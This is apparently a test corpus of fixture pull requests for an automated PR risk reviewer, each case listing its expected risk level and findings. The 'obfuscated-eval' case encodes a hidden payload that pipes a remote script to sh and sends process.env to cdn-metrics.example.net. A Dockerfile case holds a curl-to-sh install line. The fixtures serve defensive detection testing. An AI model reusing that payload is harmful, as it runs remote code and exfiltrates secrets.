        owner: 'acme',
        repo: 'storefront',
        number: 1930,
        title: 'Index orders by customer and creation date',
        author: { login: 'rgupta', association: 'MEMBER', createdAt: '2015-10-01T00:00:00Z' },
        files: [
          {
            path: 'migrations/20261120093000_orders_customer_created_idx.sql',
            head: lines(
              '-- migrate:up',
              'CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_customer_created_idx ON orders (customer_id, created_at DESC);',
              '',
              '-- migrate:down',
              'DROP INDEX CONCURRENTLY IF EXISTS orders_customer_created_idx;',
            ),
          },
          {
            path: 'src/orders/repository.ts',
            base: tsModule('Orders repository.', ['export const RECENT = `SELECT * FROM orders WHERE customer_id = $1 ORDER BY id DESC LIMIT 20`;']),
            head: tsModule('Orders repository.', ['export const RECENT = `SELECT * FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 20`;']),
          },
          {
            path: 'test/orders/repository.test.ts',
            base: tsModule('Orders repository tests.', ["import { RECENT } from '../../src/orders/repository.js';", "it('orders by id', () => expect(RECENT).toContain('ORDER BY id'));"]),
            head: tsModule('Orders repository tests.', ["import { RECENT } from '../../src/orders/repository.js';", "it('orders by date', () => expect(RECENT).toContain('ORDER BY created_at'));"]),
          },
        ],
        commits: [{ message: 'db: index orders by customer and date' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 210, merged: 198 },
        createdAt: daysAgo(0, 8),
      }),
    expect: { level: 'medium', action: 'comment', drivers: ['sensitive-paths'], noFindings: true, recommendations: ['security-review'] },
  },

  {
    id: 'binary-artifacts-added',
    description: 'A contributor commits a prebuilt .exe and a native .so next to the code that loads them.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1933,
        title: 'Speed up JSON parsing with a native addon',
        author: { login: 'fastjson-fan', association: 'CONTRIBUTOR', createdAt: '2022-08-08T00:00:00Z' },
        fork: true,
        files: [
          { path: 'tools/bin/protoc-gen-lint.exe', status: 'added', additions: 0, deletions: 0, patch: null },
          { path: 'native/linux-x64/libfastjson.so', status: 'added', additions: 0, deletions: 0, patch: null },
          {
            path: 'src/lib/fast-json.ts',
            head: tsModule('Native JSON parsing.', [
              "import { createRequire } from 'node:module';",
              'const require = createRequire(import.meta.url);',
              "const native = require('../../native/linux-x64/libfastjson.so') as { parse(text: string): unknown };",
              'export const parse = (text: string): unknown => native.parse(text);',
            ]),
          },
        ],
        commits: [{ message: 'Add native JSON parser' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 2, merged: 1 },
        createdAt: daysAgo(1),
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', drivers: ['finding:binary-artifact'], findings: ['binary-artifact'] },
  },

  {
    id: 'obfuscated-eval',
    description: 'A "telemetry" change adds eval(atob("...")) with a long base64 payload to a source file.',
    fixture: () => {
      const payload = Buffer.from(
        "const c=require('child_process');c.exec('curl -s https://cdn-metrics.example.net/t.sh | sh',()=>{});" +
          "require('https').get('https://cdn-metrics.example.net/p?e='+Buffer.from(JSON.stringify(process.env)).toString('base64'));",
      ).toString('base64');
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1937,
        title: 'Add anonymous usage telemetry',
        author: { login: 'growth-hacker', association: 'CONTRIBUTOR', createdAt: '2023-02-02T00:00:00Z' },
        fork: true,
        files: [
          {
            path: 'src/telemetry/init.js',
            base: lines("import { metrics } from './metrics.js';", '', 'export function initTelemetry() {', '  metrics.start();', '}'),
            head: lines("import { metrics } from './metrics.js';", '', 'export function initTelemetry() {', '  metrics.start();', `  eval(atob("${payload}"));`, '}'),
          },
        ],
        commits: [{ message: 'telemetry: init' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 2, merged: 1 },
        createdAt: daysAgo(1),
      });
    },
    expect: { level: ['high', 'critical'], action: 'request_changes', drivers: ['finding:obfuscated-code'], findings: ['obfuscated-code'] },
  },

  {
    id: 'tests-deleted',
    description: 'Invoice rounding changes while the invoice and refund tests are deleted ("flaky").',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1940,
        title: 'Round invoice totals per line; remove flaky tests',
        author: { login: 'jwong', association: 'CONTRIBUTOR', createdAt: '2018-03-03T00:00:00Z' },
        fork: true,
        files: [
          {
            path: 'src/billing/invoice.ts',
            base: tsModule('Invoices.', ['export function total(lines: { cents: number; qty: number }[]): number {', '  return Math.round(lines.reduce((s, l) => s + l.cents * l.qty, 0));', '}']),
            head: tsModule('Invoices.', ['export function total(lines: { cents: number; qty: number }[]): number {', '  return lines.reduce((s, l) => s + Math.round(l.cents * l.qty), 0);', '}']),
          },
          { path: 'test/billing/invoice.test.ts', status: 'removed', deletions: 86 },
          { path: 'test/billing/refund.test.ts', status: 'removed', deletions: 54 },
        ],
        commits: [{ message: 'billing: round per line' }, { message: 'test: remove flaky billing tests' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 5, merged: 3 },
        createdAt: daysAgo(1),
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'request_changes'], drivers: ['tests-deleted', 'sensitive-paths'], recommendations: ['explain-deleted-tests'] },
  },

  {
    id: 'ci-all-pending',
    description: "A member's small fix with a test; every check is still queued or running.",
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1944,
        title: 'fix(cart): keep quantity when the variant changes',
        author: { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' },
        files: [
          { path: 'src/cart/variant.ts', additions: 6, deletions: 2 },
          { path: 'src/cart/variant.test.ts', additions: 14 },
        ],
        commits: [{ message: 'fix(cart): keep quantity on variant change' }],
        checkRuns: [
          { name: 'build', status: 'in_progress' },
          { name: 'lint', status: 'queued' },
          { name: 'test (20.x)', status: 'queued' },
          { name: 'test (22.x)', status: 'queued' },
        ],
        statuses: [{ context: 'ci/circleci: e2e', state: 'pending' }],
        priorPrs: { total: 320, merged: 301 },
        createdAt: daysAgo(0, 1),
      }),
    expect: { level: 'low', action: 'comment', drivers: ['ci-pending'], recommendations: ['wait-for-ci'] },
  },

  {
    id: 'no-ci-none-association',
    description: 'A user with no association to the repository and no CI run changes a request handler.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1948,
        title: 'Handle empty search queries',
        author: { login: 'drive-by-dev', association: 'NONE', createdAt: '2024-01-15T00:00:00Z' },
        fork: true,
        files: [
          {
            path: 'src/search/handler.ts',
            base: tsModule('Search handler.', ['export function handle(q: string) {', '  return search(q.trim());', '}']),
            head: tsModule('Search handler.', ['export function handle(q: string) {', '  const query = q.trim();', '  if (query === "") return [];', '  return search(query);', '}']),
          },
        ],
        commits: [{ message: 'handle empty queries' }],
        checkRuns: [],
        priorPrs: { total: 1, merged: 0 },
        createdAt: daysAgo(0, 7),
      }),
    expect: { level: 'medium', action: 'needs_discussion', drivers: ['ci-missing', 'author-trust'], recommendations: ['add-ci', 'verify-contributor'] },
  },

  {
    id: 'member-small-feature-green',
    description: "A member's small feature with a test; CI green.",
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1951,
        title: 'feat(catalog): sort products by popularity',
        author: { login: 'rgupta', association: 'MEMBER', createdAt: '2015-10-01T00:00:00Z' },
        files: [
          {
            path: 'src/catalog/sort.ts',
            base: tsModule('Catalog sorting.', ["export type SortKey = 'price' | 'name';", 'export const SORT_KEYS: SortKey[] = ["price", "name"];']),
            head: tsModule('Catalog sorting.', ["export type SortKey = 'price' | 'name' | 'popularity';", 'export const SORT_KEYS: SortKey[] = ["price", "name", "popularity"];']),
          },
          {
            path: 'src/catalog/sort.test.ts',
            base: tsModule('Catalog sorting tests.', ["it('has two keys', () => expect(SORT_KEYS).toHaveLength(2));"]),
            head: tsModule('Catalog sorting tests.', ["it('has three keys', () => expect(SORT_KEYS).toHaveLength(3));"]),
          },
        ],
        commits: [{ message: 'feat(catalog): sort by popularity' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 210, merged: 198 },
        createdAt: daysAgo(0, 5),
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },

  {
    id: 'cargo-git-dependency',
    description: 'Cargo.toml adds tokio-tungstenite from a git branch of a fork.',
    fixture: () => {
      const tomlBase = lines(
        '[package]',
        'name = "ferry"',
        'version = "0.7.2"',
        'edition = "2021"',
        '',
        '[dependencies]',
        'serde = { version = "1.0", features = ["derive"] }',
        'tokio = { version = "1.41", features = ["full"] }',
        'tracing = "0.1"',
      );
      const tomlHead = `${tomlBase}tokio-tungstenite = { git = "https://github.com/jsalo/tokio-tungstenite", branch = "fix-close-frame" }\n`;
      const lockBase = lines(
        'version = 4',
        '',
        '[[package]]',
        'name = "ferry"',
        'version = "0.7.2"',
        '',
        '[[package]]',
        'name = "serde"',
        'version = "1.0.215"',
        'source = "registry+https://github.com/rust-lang/crates.io-index"',
        'checksum = "6513c1ad0b11a9376da888e3e0baa0077f1aed55c17f50e7b2397136129fb88f"',
        '',
        '[[package]]',
        'name = "tokio"',
        'version = "1.41.1"',
        'source = "registry+https://github.com/rust-lang/crates.io-index"',
        'checksum = "22cfb5bee7a6a52939ca9224d6ac897bb669134078daa8735560897f69de4d33"',
      );
      const lockHead = `${lockBase}\n[[package]]\nname = "tokio-tungstenite"\nversion = "0.24.0"\nsource = "git+https://github.com/jsalo/tokio-tungstenite?branch=fix-close-frame#8c1f0d3a52b4e6f7a9d0c1b2e3f4a5b6c7d8e9f0"\n`;
      return makePrFixture({
        owner: 'acme',
        repo: 'ferry',
        number: 77,
        title: 'Relay websocket close frames',
        author: { login: 'jsalo', association: 'CONTRIBUTOR', createdAt: '2019-06-01T00:00:00Z' },
        fork: true,
        files: [
          { path: 'Cargo.toml', base: tomlBase, head: tomlHead },
          { path: 'Cargo.lock', base: lockBase, head: lockHead },
          { path: 'src/relay.rs', additions: 38, deletions: 4 },
          { path: 'tests/relay.rs', additions: 22 },
        ],
        commits: [{ message: 'relay: forward close frames' }],
        checkRuns: [{ name: 'cargo test' }, { name: 'clippy' }, { name: 'rustfmt' }],
        priorPrs: { total: 8, merged: 6 },
        createdAt: daysAgo(2),
      });
    },
    expect: { level: 'medium', action: 'comment', drivers: ['finding:git-dependency'], findings: ['git-dependency'] },
  },

  {
    id: 'dockerfile-latest-curl-sh',
    description:
      "The Dockerfile moves to node:latest and installs pnpm with curl | sh from pnpm's own installer host over HTTPS: two medium findings (an unpinned image, an unpinned installer) that together make the risk high, with nothing at high severity to request changes for.",
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1955,
        title: 'build: switch the image to pnpm',
        author: { login: 'lina-ops', association: 'CONTRIBUTOR', createdAt: '2019-09-30T08:00:00Z' },
        fork: true,
        files: [
          {
            path: 'Dockerfile',
            base: lines(
              'FROM node:20.18-bookworm-slim AS build',
              'WORKDIR /app',
              'COPY package.json package-lock.json ./',
              'RUN npm ci',
              'COPY . .',
              'RUN npm run build',
              '',
              'FROM node:20.18-bookworm-slim',
              'WORKDIR /app',
              'COPY --from=build /app/dist ./dist',
              'CMD ["node", "dist/server.js"]',
            ),
            head: lines(
              'FROM node:latest AS build',
              'WORKDIR /app',
              'RUN curl -fsSL https://get.pnpm.io/install.sh | sh -',
              'COPY package.json pnpm-lock.yaml ./',
              'RUN pnpm install --frozen-lockfile',
              'COPY . .',
              'RUN pnpm build',
              '',
              'FROM node:20.18-bookworm-slim',
              'WORKDIR /app',
              'COPY --from=build /app/dist ./dist',
              'CMD ["node", "dist/server.js"]',
            ),
          },
        ],
        commits: [{ message: 'build: use pnpm in the image' }],
        checkRuns: [...nodeCi(), { name: 'docker build' }],
        priorPrs: { total: 6, merged: 4 },
        createdAt: daysAgo(1),
      }),
    expect: { level: 'high', action: 'comment', drivers: ['finding:curl-pipe-shell'], findings: ['curl-pipe-shell', 'docker-unpinned-image'] },
  },

  {
    id: 'svc-config-edit',
    description: 'A contributor edits .github/svc.yml to stop blocking on failing checks and to ignore unpinned actions.',
    fixture: () => {
      const base = lines('required_checks:', '  - build', '  - test (20.x)', 'review:', '  approve_min_trust: medium');
      const head = lines(
        'required_checks:',
        '  - build',
        '  - test (20.x)',
        'review:',
        '  approve_min_trust: medium',
        '  request_changes_on_failing_checks: false',
        'ignore_findings:',
        '  - id: gha-unpinned-action',
        '    reason: "too noisy"',
      );
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1958,
        title: 'chore: quieter svc reviews',
        author: { login: 'jwong', association: 'CONTRIBUTOR', createdAt: '2018-03-03T00:00:00Z' },
        fork: true,
        files: [{ path: '.github/svc.yml', base, head }],
        commits: [{ message: 'chore: relax svc review rules' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 5, merged: 3 },
        createdAt: daysAgo(1),
      });
    },
    expect: { level: 'medium', action: 'comment', drivers: ['finding:config-weakened'], findings: ['config-weakened'], recommendations: ['security-review'] },
  },

  {
    id: 'bot-generated-dist',
    description: 'github-actions[bot] rebuilds dist/ of a JavaScript action after a merge; CI green.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'setup-storefront',
        number: 93,
        title: 'chore: rebuild dist',
        body: 'Automated rebuild of dist/ after #92.',
        author: { login: 'github-actions[bot]', association: 'NONE', createdAt: '2018-07-30T16:05:03Z' },
        headBranch: 'actions/rebuild-dist',
        files: [
          { path: 'dist/index.js', additions: 412, deletions: 398 },
          { path: 'dist/index.js.map', additions: 1, deletions: 1 },
          { path: 'dist/licenses.txt', additions: 24, deletions: 0 },
        ],
        commits: [{ message: 'chore: rebuild dist', authorEmail: '41898282+github-actions[bot]@users.noreply.github.com' }],
        checkRuns: [{ name: 'check-dist' }, { name: 'test' }],
        createdAt: daysAgo(0, 2),
      }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['size', 'author-trust'] },
  },

  {
    id: 'vulnerable-new-dependency',
    description: 'A member adds axios 1.6.0, which dependency review reports with a high-severity advisory.',
    fixture: () => {
      const headDeps = withDeps({ axios: '1.6.0' });
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1962,
        title: 'Call the shipping API with axios',
        author: { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' },
        files: [
          { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, dependencies: headDeps }) },
          {
            path: 'package-lock.json',
            base: packageLock(WEBAPP, WEBAPP_LOCKED),
            head: packageLock({ ...WEBAPP, dependencies: headDeps }, [...WEBAPP_LOCKED, { name: 'axios', version: '1.6.0' }]),
          },
          { path: 'src/shipping/client.ts', additions: 30 },
          { path: 'src/shipping/client.test.ts', additions: 25 },
        ],
        commits: [{ message: 'shipping: axios client' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 320, merged: 301 },
        dependencyChanges: [
          {
            changeType: 'added',
            manifest: 'package-lock.json',
            ecosystem: 'npm',
            name: 'axios',
            version: '1.6.0',
            vulnerabilities: [{ severity: 'high', advisoryGhsaId: 'GHSA-8hc4-vh64-cxmj', advisorySummary: 'Server-Side Request Forgery in axios' }],
          },
        ],
        createdAt: daysAgo(0, 9),
      });
    },
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vulnerable-dependency'] },
  },

  {
    id: 'lockfile-maintenance',
    description: 'Renovate lock file maintenance: transitive patch updates in package-lock.json only; CI green.',
    fixture: () => {
      const locked = WEBAPP_LOCKED.map((p) => (p.name === 'debug' ? { ...p, version: '4.3.8' } : p.name === 'body-parser' ? { ...p, version: '2.2.1' } : p));
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1966,
        title: 'chore(deps): lock file maintenance',
        body: '🔧 This Pull Request updates lock files to use the latest dependency versions.',
        author: { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' },
        headBranch: 'renovate/lock-file-maintenance',
        files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock(WEBAPP, locked) }],
        commits: [{ message: 'chore(deps): lock file maintenance', authorEmail: '29139614+renovate[bot]@users.noreply.github.com' }],
        checkRuns: nodeCi(),
        createdAt: daysAgo(0, 10),
      });
    },
    expect: { level: 'low', action: 'approve', findings: ['lockfile-without-manifest'], absentDrivers: ['new-dependencies'] },
  },

  {
    id: 'draft-member-wip',
    description: "A member's draft: work in progress on checkout, with tests; CI green.",
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1970,
        title: 'WIP: split checkout into steps',
        draft: true,
        author: { login: 'rgupta', association: 'MEMBER', createdAt: '2015-10-01T00:00:00Z' },
        files: [
          { path: 'src/checkout/steps.ts', additions: 80, deletions: 12 },
          { path: 'src/checkout/steps.test.ts', additions: 40 },
        ],
        commits: [{ message: 'checkout: steps (wip)' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 210, merged: 198 },
        createdAt: daysAgo(0, 3),
      }),
    expect: { level: ['low', 'medium'], action: 'comment', recommendations: ['draft', 'security-review'] },
  },
];

/** Every corpus PR: the first wave's cases, then one file per area under test/corpus/cases/. */
export const CORPUS: CorpusEntry[] = [...BASE_CASES, ...CI_CASES, ...CI_ONLINE_CASES, ...PACKAGE_CASES, ...CODE_CASES, ...CALIBRATION_CASES, ...AI_AGENT_CASES, ...ATTACK_CASES];
